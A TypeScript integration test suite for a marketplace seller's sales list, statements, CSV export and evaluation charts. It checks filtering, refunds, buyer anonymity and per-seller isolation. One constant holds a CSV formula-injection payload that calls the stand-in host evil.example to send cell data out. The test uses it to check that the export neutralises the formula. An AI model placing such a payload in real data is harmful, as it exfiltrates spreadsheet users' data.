import { and, eq, inArray } from 'drizzle-orm';
import { GET as evaluationRoute } from '@/app/api/v3/seller/evaluation/route';
import { GET as statementRoute } from '@/app/api/v3/seller/sales/[orderItemId]/route';
import { GET as exportRoute } from '@/app/api/v3/seller/sales/export/route';
import { GET as salesRoute } from '@/app/api/v3/seller/sales/route';
import type { AreaPageProps } from '@/components/areas/lazy-view';
import { isNotFoundError } from '@/components/pages/not-found-error';
import { EvaluationPage, SalesPage } from '@/components/selling/sales-pages';
import { addToCart } from '@/lib/commerce/cart';
import { checkout } from '@/lib/commerce/checkout';
import { refundOrder } from '@/lib/commerce/payments';
import { getDb } from '@/lib/db/client';
import * as t from '@/lib/db/schema';
import { DEMO_ACCOUNTS } from '@/lib/seed/seed';
import { formatPrice } from '@/lib/pricing/format-price';
import { pathFor } from '@/lib/routing/localized-routes';
import { getRoute, type RouteId } from '@/lib/routing/routes';
import { sellerSalesCsv, type SaleStatement, type SellerEvaluation, type SellerSalesPage } from '@/lib/selling/sales';
import { addDays, isoDay } from '@/lib/selling/sales-filter';
import { getWorld, type WorldCode } from '@/lib/worlds/worlds';
import german from '@/messages/de/cabinet-sales.json';
import { paidMaterials } from './support/catalogue';
import { apiRequest } from './support/request';
import { BACKEND, startTestDatabase, type TestDatabase } from './support/test-database';
import { escapedHtml, renderHtml } from './support/render';
import { signInSession } from './support/session';

/**
 * The seller's sales, statement, CSV and evaluation against a real database: sales made through
 * the real cart and checkout (one of them 40 days back), a refund through the admin's refund, and
 * downloads counted as the download route counts them. The pages are rendered as the cabinet
 * renders them, with the German texts.
 */

let database: TestDatabase;
beforeAll(async () => {
  database = await startTestDatabase({ seedMaterials: 60 });
});
afterAll(() => database.stop());

const DAY = 24 * 60 * 60 * 1000;
const EVIL_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")';

let orderCount = 0;
async function buy(userId: number, world: WorldCode, materialIds: number[], now = new Date()) {
  for (const id of materialIds) await addToCart({ world, userId, cartToken: null }, id, 'single');
  orderCount += 1;
  const { order } = await checkout(
    {
      userId,
      world,
      provider: 'test',
      idempotencyKey: `seller-sales-${orderCount}-${Date.now()}`,
      expectedTotal: null,
      deliveryConsent: true,
    },
    now,
  );
  expect(order.status).toBe('paid');
  const items = await getDb().select().from(t.orderItems).where(eq(t.orderItems.orderId, order.id));
  return { order, items };
}

const get = (handler: typeof salesRoute, path: string, cookie?: string) =>
  handler(apiRequest(path, { headers: cookie ? { cookie } : {} }), { params: Promise.resolve({}) });

const statementOf = (id: string, cookie?: string) =>
  statementRoute(apiRequest(`/api/v3/seller/sales/${id}?world=de`, { headers: cookie ? { cookie } : {} }), {
    params: Promise.resolve({ orderItemId: id }),
  });

async function salesJson(query: string, cookie: string): Promise<SellerSalesPage> {
  const response = await get(salesRoute, `/api/v3/seller/sales?world=de${query}`, cookie);
  expect(response.status).toBe(200);
  return (await response.json()) as SellerSalesPage;
}

/** Every sale the filter matches, through all pages. */
async function allSales(query: string, cookie: string) {
  const first = await salesJson(query, cookie);
  const items = [...first.items];
  for (let page = 2; (page - 1) * first.pageSize < first.total; page += 1)
    items.push(...(await salesJson(`${query}&page=${page}`, cookie)).items);
  return { ...first, items };
}

const pageProps = (route: RouteId, userId: number, query: AreaPageProps['query'] = {}): AreaPageProps => ({
  world: getWorld('de'),
  route: getRoute(route),
  params: {},
  query,
  userId,
});

describe(`the seller's sales on ${BACKEND}`, () => {
  let seller: { cookie: string; userId: number };
  let buyer: { cookie: string; userId: number };
  const today = isoDay(new Date());
  const past = new Date(Date.now() - 40 * DAY);
  let mine: { a: number; b: number; evil: number; es: number };
  let other: number;
  let items: {
    a: typeof t.orderItems.$inferSelect;
    b: typeof t.orderItems.$inferSelect;
    es: typeof t.orderItems.$inferSelect;
    evil: typeof t.orderItems.$inferSelect;
    other: typeof t.orderItems.$inferSelect;
  };
  let buyerOrder: { reference: string; id: number };

  beforeAll(async () => {
    seller = await signInSession(DEMO_ACCOUNTS.seller);
    buyer = await signInSession(DEMO_ACCOUNTS.buyer);
    // Four materials become the demo seller's (three German, one Spanish), one stays another's;
    // none is owned by the demo buyer yet.
    const german = await paidMaterials('de', 4, { notBy: seller.userId, notOwnedBy: buyer.userId });
    const [spanish] = await paidMaterials('es', 1, { notBy: seller.userId, notOwnedBy: buyer.userId });
    mine = { a: german[0]!.id, b: german[1]!.id, evil: german[2]!.id, es: spanish!.id };
    other = german[3]!.id;
    await getDb()
      .update(t.materials)
      .set({ authorId: seller.userId })
      .where(inArray(t.materials.id, [mine.a, mine.b, mine.evil, mine.es]));
    await getDb().update(t.materials).set({ title: EVIL_TITLE }).where(eq(t.materials.id, mine.evil));

    const first = await buy(buyer.userId, 'de', [mine.a, mine.b, mine.evil, other]);
    buyerOrder = first.order;
    const spanishOrder = await buy(buyer.userId, 'es', [mine.es], past);
    const line = (rows: (typeof t.orderItems.$inferSelect)[], id: number) => rows.find((r) => r.materialId === id)!;
    items = {
      a: line(first.items, mine.a),
      b: line(first.items, mine.b),
      evil: line(first.items, mine.evil),
      other: line(first.items, other),
      es: line(spanishOrder.items, mine.es),
    };
    await refundOrder(first.order.id, { itemIds: [items.b.id], to: 'credit' });
    // The download route writes one row per delivered file: three of a, one of es 40 days back,
    // and two of the other seller's material that must not count.
    await getDb()
      .insert(t.materialDownloads)
      .values([
        { materialId: mine.a, userId: buyer.userId },
        { materialId: mine.a, userId: buyer.userId },
        { materialId: mine.a, userId: buyer.userId },
        { materialId: mine.es, userId: buyer.userId, createdAt: past },
        { materialId: other, userId: buyer.userId },
        { materialId: other, userId: buyer.userId },
      ]);
  });

  it('shows the seller their sales with the tier and shares recorded at the sale, and no buyer data', async () => {
    const page = await allSales(`&from=${today}&to=${today}`, seller.cookie);
    const byMaterial = new Map(page.items.map((sale) => [sale.materialId, sale]));
    const a = byMaterial.get(mine.a)!;
    expect(a).toMatchObject({
      id: items.a.id,
      world: 'de',
      currency: 'EUR',
      licence: 'single',
      testPayment: true,
      gross: items.a.chargedGrossMinor,
      vat: items.a.vatMinor,
      net: items.a.netMinor,
      tierActivePaidMaterials: items.a.sellerActivePaidMaterials,
      shareBasisPoints: items.a.sellerShareBasisPoints,
      sellerShare: items.a.sellerShareMinor,
      platformShare: items.a.platformShareMinor,
      refundedAt: null,
    });
    expect(a.sellerShare).toBeGreaterThan(0);
    expect(byMaterial.has(other)).toBe(false);
    expect(page.items.every((sale) => sale.soldAt.slice(0, 10) === today)).toBe(true);
    // The buyer stays anonymous: no reference, e-mail, name or address anywhere in the answer.
    const [buyerRow] = await getDb().select().from(t.users).where(eq(t.users.id, buyer.userId));
    const text = JSON.stringify(page);
    for (const secret of [buyerOrder.reference, buyerRow!.email, buyerRow!.publicName])
      expect(text).not.toContain(secret);
    expect(text).not.toMatch(/"(reference|email|buyer|userId|billingAddress)"/);
  });

  it('filters by period, country of the order and material', async () => {
    const spanish = await allSales('&orderWorld=es', seller.cookie);
    expect(spanish.items.map((sale) => sale.id)).toContain(items.es.id);
    expect(spanish.items.every((sale) => sale.world === 'es')).toBe(true);
    expect(spanish.items.map((sale) => sale.id)).not.toContain(items.a.id);

    const onlyA = await allSales(`&materialId=${mine.a}`, seller.cookie);
    expect(onlyA.items.map((sale) => sale.id)).toEqual([items.a.id]);

    const pastDay = isoDay(past);
    const then = await allSales(`&from=${pastDay}&to=${pastDay}`, seller.cookie);
    expect(then.items.map((sale) => sale.id)).toContain(items.es.id);
    expect(then.items.map((sale) => sale.id)).not.toContain(items.a.id);
    const now = await allSales(`&from=${today}&to=${today}`, seller.cookie);
    expect(now.items.map((sale) => sale.id)).toEqual(expect.arrayContaining([items.a.id, items.b.id, items.evil.id]));
    expect(now.items.map((sale) => sale.id)).not.toContain(items.es.id);

    // Someone else's material is simply nothing of this seller's.
    expect((await allSales(`&materialId=${other}`, seller.cookie)).items).toEqual([]);
    // Downloads follow the same filter: three of a today, one of es then, none of the other's.
    expect((await salesJson(`&from=${today}&to=${today}`, seller.cookie)).downloads).toEqual({
      total: 3,
      materials: [expect.objectContaining({ materialId: mine.a, downloads: 3 })],
      materialsTotal: 1,
      materialsPage: 1,
    });
    // Per material 50 a page: the second page of one material is empty, the total stays.
    expect((await salesJson(`&from=${today}&to=${today}&materialsPage=2`, seller.cookie)).downloads).toEqual({
      total: 3,
      materials: [],
      materialsTotal: 1,
      materialsPage: 2,
    });
    expect((await salesJson(`&from=${pastDay}&to=${pastDay}`, seller.cookie)).downloads.total).toBe(1);
  });

  it('shows a refund on the sale and in the totals', async () => {
    const page = await allSales(`&from=${today}&to=${today}`, seller.cookie);
    const b = page.items.find((sale) => sale.id === items.b.id)!;
    expect(b.refundedAt).not.toBeNull();
    const euro = page.totals.find((row) => row.currency === 'EUR')!;
    const sum = (pick: (sale: (typeof page.items)[number]) => number, refunded?: boolean) =>
      page.items
        .filter((sale) => refunded === undefined || (sale.refundedAt !== null) === refunded)
        .reduce((total, sale) => total + pick(sale), 0);
    expect(euro).toEqual({
      currency: 'EUR',
      sales: page.items.length,
      refunded: page.items.filter((sale) => sale.refundedAt !== null).length,
      gross: sum((sale) => sale.gross),
      sellerShare: sum((sale) => sale.sellerShare),
      refundedGross: sum((sale) => sale.gross, true),
      refundedSellerShare: sum((sale) => sale.sellerShare, true),
    });
    expect(euro.refundedSellerShare).toBe(items.b.sellerShareMinor);
    expect(page.total).toBe(page.items.length);
  });

  it('gives the statement as recorded, never recomputed, and 404 for anyone else’s sale', async () => {
    // Record the sale as if it had been made at another tier: the statement must show that one.
    await getDb()
      .update(t.orderItems)
      .set({ sellerActivePaidMaterials: 57, sellerShareBasisPoints: 6000 })
      .where(eq(t.orderItems.id, items.a.id));
    const response = await statementOf(String(items.a.id), seller.cookie);
    expect(response.status).toBe(200);
    const statement = (await response.json()) as SaleStatement;
    expect(statement).toMatchObject({
      id: items.a.id,
      materialId: mine.a,
      licence: 'single',
      tierActivePaidMaterials: 57,
      shareBasisPoints: 6000,
      sellerShare: items.a.sellerShareMinor,
      platformShare: items.a.platformShareMinor,
      gross: items.a.chargedGrossMinor,
      vat: items.a.vatMinor,
      net: items.a.netMinor,
      voucherDiscount: 0,
      refundedAt: null,
    });
    expect(statement.shareBase).toBe(statement.gross - statement.vat);
    expect(JSON.stringify(statement)).not.toContain(buyerOrder.reference);

    const refunded = (await (await statementOf(String(items.b.id), seller.cookie)).json()) as SaleStatement;
    expect(refunded.refundedAt).not.toBeNull();

    for (const id of [String(items.other.id), '2147483647']) {
      const refused = await statementOf(id, seller.cookie);
      expect(refused.status).toBe(404);
      expect(await refused.json()).toMatchObject({
        error: { code: 'not_found', details: { reason: 'sale_not_found' } },
      });
    }
    expect((await statementOf('abc', seller.cookie)).status).toBe(404);
  });

  it('exports CSV with a header, quoted text, decimal amounts and the formula neutralised', async () => {
    const response = await get(
      exportRoute,
      `/api/v3/seller/sales/export?world=de&from=${today}&to=${today}`,
      seller.cookie,
    );
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toBe(`attachment; filename="kreide-sales-${today}.csv"`);
    expect(response.headers.get('x-content-type-options')).toBe('nosniff');
    expect(response.headers.get('cache-control')).toBe('no-store');
    const bytes = Buffer.from(await response.arrayBuffer());
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).split('\r\n');
    expect(lines[0]).toBe(
      '"sale","sold_at_utc","world","material_id","title","licence","in_bundle","test_payment","currency","gross","vat","net","tier_active_paid_materials","share_percent","seller_share","platform_share","refunded_at_utc"',
    );
    expect(lines.at(-1)).toBe('');
    const rows = lines.slice(1, -1);
    const json = await allSales(`&from=${today}&to=${today}`, seller.cookie);
    expect(rows).toHaveLength(json.items.length);

    const evil = rows.find((row) => row.startsWith(`${items.evil.id},`))!;
    expect(evil).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Klick"")",`);
    const a = rows.find((row) => row.startsWith(`${items.a.id},`))!;
    const euros = (minor: number) => `${Math.trunc(minor / 100)}.${String(minor % 100).padStart(2, '0')}`;
    expect(a).toBe(
      [
        items.a.id,
        `"${json.items
          .find((s) => s.id === items.a.id)!
          .soldAt.slice(0, 19)
          .replace('T', ' ')}"`,
        '"de"',
        mine.a,
        `"${items.a.title.replace(/"/g, '""')}"`,
        '"single"',
        '"no"',
        '"yes"',
        '"EUR"',
        euros(items.a.chargedGrossMinor),
        euros(items.a.vatMinor),
        euros(items.a.netMinor),
        57,
        60,
        euros(items.a.sellerShareMinor),
        euros(items.a.platformShareMinor),
        '""',
      ].join(','),
    );
    const b = rows.find((row) => row.startsWith(`${items.b.id},`))!;
    expect(b).toMatch(/,"\d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2}"$/);

    // Read in slices of two rows (sales of one order share their paid_at), the file is the same.
    const whole = await sellerSalesCsv(seller.userId, {});
    expect(await sellerSalesCsv(seller.userId, {}, { batchSize: 2 })).toBe(whole);
    expect(whole.split('\r\n').length - 2).toBe((await allSales('', seller.cookie)).total);
  });

  it('refuses non-sellers (403), anonymous callers (401) and bad periods (400)', async () => {
    for (const [handler, path] of [
      [salesRoute, '/api/v3/seller/sales?world=de'],
      [exportRoute, '/api/v3/seller/sales/export?world=de'],
      [evaluationRoute, '/api/v3/seller/evaluation?world=de'],
    ] as const) {
      const refused = await get(handler, path, buyer.cookie);
      expect(refused.status).toBe(403);
      expect(await refused.json()).toMatchObject({ error: { code: 'forbidden', details: { reason: 'seller_only' } } });
      expect((await get(handler, path)).status).toBe(401);
    }
    expect((await statementOf(String(items.a.id), buyer.cookie)).status).toBe(403);

    for (const [handler, base] of [
      [salesRoute, '/api/v3/seller/sales?world=de'],
      [exportRoute, '/api/v3/seller/sales/export?world=de'],
      [evaluationRoute, '/api/v3/seller/evaluation?world=de'],
    ] as const) {
      for (const [query, code] of [
        ['&from=2025-02-30', 'invalidDate'],
        ['&to=31.12.2025', 'invalidDate'],
        ['&from=2025-03-02&to=2025-03-01', 'periodOrder'],
        ['&from=2022-01-01&to=2025-01-01', 'periodTooLong'],
        ['&materialId=0', 'invalid'],
        ['&unknown=1', 'invalid'],
      ] as const) {
        const response = await get(handler, `${base}${query}`, seller.cookie);
        expect(response.status).toBe(400);
        const body = (await response.json()) as { error: { code: string; details: { code: string }[] } };
        expect(body.error.code).toBe('validation_failed');
        expect(body.error.details.map((detail) => detail.code)).toContain(code);
      }
    }
    expect(
      (await get(evaluationRoute, '/api/v3/seller/evaluation?world=de&granularity=year', seller.cookie)).status,
    ).toBe(400);
    for (const [handler, base] of [
      [salesRoute, '/api/v3/seller/sales?world=de'],
      [evaluationRoute, '/api/v3/seller/evaluation?world=de'],
    ] as const)
      for (const page of ['0', '-1', '1.5', 'x', '10001'])
        expect((await get(handler, `${base}&materialsPage=${page}`, seller.cookie)).status).toBe(400);
  });

  it('gives an evaluation whose series add up to the sales list, in every granularity', async () => {
    const from = isoDay(addDays(past, -3));
    const list = await allSales(`&from=${from}&to=${today}`, seller.cookie);
    const euro = list.totals.find((row) => row.currency === 'EUR')!;
    for (const granularity of ['day', 'week', 'month'] as const) {
      const response = await get(
        evaluationRoute,
        `/api/v3/seller/evaluation?world=de&from=${from}&to=${today}&granularity=${granularity}`,
        seller.cookie,
      );
      expect(response.status).toBe(200);
      const evaluation = (await response.json()) as SellerEvaluation;
      expect(evaluation).toMatchObject({ from, to: today, granularity, currencies: ['EUR'] });
      if (granularity === 'day') expect(evaluation.series).toHaveLength(44);
      const sum = (pick: (point: SellerEvaluation['series'][number]) => number) =>
        evaluation.series.reduce((total, point) => total + pick(point), 0);
      expect(sum((point) => point.sales)).toBe(list.total);
      expect(sum((point) => point.refunds)).toBe(euro.refunded);
      expect(sum((point) => point.revenue.EUR ?? 0)).toBe(euro.sellerShare - euro.refundedSellerShare);
      expect(sum((point) => point.downloads)).toBe(4);
      expect(evaluation.totals).toEqual({
        sales: list.total,
        refunds: euro.refunded,
        revenue: { EUR: euro.sellerShare - euro.refundedSellerShare },
        downloads: 4,
      });
      // Per material the same figures, the other seller's material nowhere.
      const perMaterial = evaluation.materials;
      expect(evaluation).toMatchObject({ materialsTotal: perMaterial.length, materialsPage: 1 });
      expect(perMaterial.reduce((total, row) => total + row.sales, 0)).toBe(list.total);
      expect(perMaterial.reduce((total, row) => total + row.downloads, 0)).toBe(4);
      expect(perMaterial.map((row) => row.materialId)).not.toContain(other);
      expect(perMaterial.find((row) => row.materialId === mine.b)).toMatchObject({
        sales: 1,
        refunds: 1,
        revenue: { EUR: 0 },
      });
      expect(perMaterial.find((row) => row.materialId === mine.a)).toMatchObject({
        sales: 1,
        downloads: 3,
        revenue: { EUR: items.a.sellerShareMinor },
      });
    }
    const onlyEs = (await (
      await get(
        evaluationRoute,
        `/api/v3/seller/evaluation?world=de&from=${from}&to=${today}&materialId=${mine.es}`,
        seller.cookie,
      )
    ).json()) as SellerEvaluation;
    expect(onlyEs.totals).toEqual({ sales: 1, refunds: 0, revenue: { EUR: items.es.sellerShareMinor }, downloads: 1 });
    const point = onlyEs.series.find((p) => p.sales > 0)!;
    expect(point.period).toBe(isoDay(past));

    // Without a period: the last 30 days, today included.
    const recent = (await (
      await get(evaluationRoute, '/api/v3/seller/evaluation?world=de', seller.cookie)
    ).json()) as SellerEvaluation;
    expect(recent.to).toBe(today);
    expect(recent.series).toHaveLength(30);
  });

  it('renders the sales page with filters, totals, the statement and the CSV link; others’ sales are not found', async () => {
    const page = await renderHtml(
      await SalesPage.render(
        pageProps('cabinet-sales', seller.userId, { from: today, to: today, sale: String(items.a.id) }),
      ),
    );
    expect(page).toContain('data-testid="sales-list"');
    for (const id of [items.a.id, items.b.id, items.evil.id]) expect(page).toContain(`data-sale-id="${id}"`);
    expect(page).toContain(escapedHtml(EVIL_TITLE));
    expect(page).not.toContain(buyerOrder.reference);
    // The statement of sale a, with the tier recorded (57 materials, 60 %).
    expect(page).toContain(german.statement.title.replace('{id}', String(items.a.id)));
    expect(page).toMatch(/60\s%: Du hattest 57 aktive kostenpflichtige Materialien/);
    expect(page).toContain(formatPrice(items.a.sellerShareMinor, 'EUR', 'de-DE'));
    // The refund, the totals and the export of the same filter.
    expect(page).toContain(german.list.refundedOn.replace('{date}', ''));
    expect(page).toContain('data-testid="sales-totals"');
    expect(page).toContain(`href="/api/v3/seller/sales/export?world=de&amp;from=${today}&amp;to=${today}"`);
    expect(page).toContain(`action="${pathFor('de', 'cabinet-sales')}"`);
    expect(page).toContain(`value="${today}"`);
    expect(page).toContain('data-testid="downloads-list"');

    const refusal = await SalesPage.render(
      pageProps('cabinet-sales', seller.userId, { sale: String(items.other.id) }),
    ).then(renderHtml, (error: unknown) => error);
    expect(isNotFoundError(refusal)).toBe(true);

    const bad = await renderHtml(
      await SalesPage.render(pageProps('cabinet-sales', seller.userId, { from: '2025-03-02', to: '2025-03-01' })),
    );
    expect(bad).toContain(german.errors.periodOrder);
    expect(bad).not.toContain('data-testid="sales-list"');

    const notSeller = await renderHtml(await SalesPage.render(pageProps('cabinet-sales', buyer.userId)));
    expect(notSeller).toContain('data-testid="sales-not-seller"');
    expect(notSeller).toContain(`href="${pathFor('de', 'cabinet-materials')}"`);
    expect(notSeller).not.toContain('data-testid="sales-list"');
  });

  it('renders the evaluation as SVG charts with titles, descriptions and a table, without scripts', async () => {
    const from = isoDay(addDays(past, -3));
    const page = await renderHtml(
      await EvaluationPage.render(
        pageProps('cabinet-evaluation', seller.userId, { from, to: today, granularity: 'week' }),
      ),
    );
    for (const id of ['sales', 'revenue-EUR', 'downloads']) {
      expect(page).toContain(`data-testid="chart-${id}"`);
      expect(page).toContain(`aria-labelledby="${id}-title ${id}-desc"`);
      expect(page).toMatch(new RegExp(`<title id="${id}-title">[^<]+</title><desc id="${id}-desc">[^<]+</desc>`));
    }
    expect(page).toContain('role="img"');
    expect(page).toContain('data-testid="evaluation-table"');
    expect(page).toContain('data-testid="evaluation-materials"');
    expect(page).toContain(german.evaluation.pending);
    expect(page).not.toContain('<script');
    expect(page).toContain('<option value="week" selected="">');

    const notSeller = await renderHtml(await EvaluationPage.render(pageProps('cabinet-evaluation', buyer.userId)));
    expect(notSeller).toContain('data-testid="sales-not-seller"');
  });

  it('shows another seller nothing of these sales', async () => {
    const [otherSeller] = await getDb()
      .select({ authorId: t.materials.authorId })
      .from(t.materials)
      .where(and(eq(t.materials.id, other)));
    expect(otherSeller!.authorId).not.toBe(seller.userId);
    const sale = await getDb().select().from(t.orderItems).where(eq(t.orderItems.id, items.other.id));
    expect(sale[0]!.sellerId).toBe(otherSeller!.authorId);
    // The sales of the other seller are theirs only: our seller's list never has them.
    const ours = await allSales('', seller.cookie);
    expect(ours.items.every((row) => row.id !== items.other.id)).toBe(true);
  });
});
